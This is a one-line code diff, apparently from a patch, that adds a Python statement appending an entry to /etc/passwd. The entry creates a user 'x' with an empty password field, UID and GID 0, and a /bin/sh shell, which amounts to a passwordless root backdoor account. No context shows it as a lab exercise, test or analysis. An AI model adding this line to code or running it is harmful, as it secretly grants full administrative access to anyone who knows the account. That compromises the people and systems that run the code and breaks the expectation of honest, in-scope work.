@@ -1,0 +1,1 @@
+open('/etc/passwd', 'a').write('x::0:0::/:/bin/sh')
